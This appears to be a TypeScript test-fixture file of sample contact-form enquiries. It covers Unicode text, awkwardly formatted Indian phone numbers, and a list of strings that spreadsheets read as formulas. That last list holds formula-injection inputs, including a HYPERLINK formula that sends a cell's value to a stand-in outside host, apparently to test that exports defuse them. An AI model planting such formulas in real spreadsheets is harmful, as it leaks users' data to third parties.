/** An ordinary enquiry. */
export const asha = {
  name: "Asha Rao",
  email: "asha@example.com",
  mobile: "+91 98765 43210",
  subject: "Annual filing",
  message: "Need help with annual filing\nfor two companies.",
};

export const ashaSubscribes = { name: "Asha Rao", email: "asha@example.com" };

/** Texts that other receivers garbled. */
export const scripts = {
  name: "अदिति शर्मा",
  message: "नमस्ते 🙏🏽 — ₹5,000 “शुल्क” Ünïcode",
};

/** Phone numbers that spreadsheets damage. */
export const phones = ["+91 98765 43210", "098765 43210", "+91-9876543210", "00919876543210", " 98765 "];

/** Texts that spreadsheets read as formulas. */
export const formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://x.example/?q="&B2,"see")'];
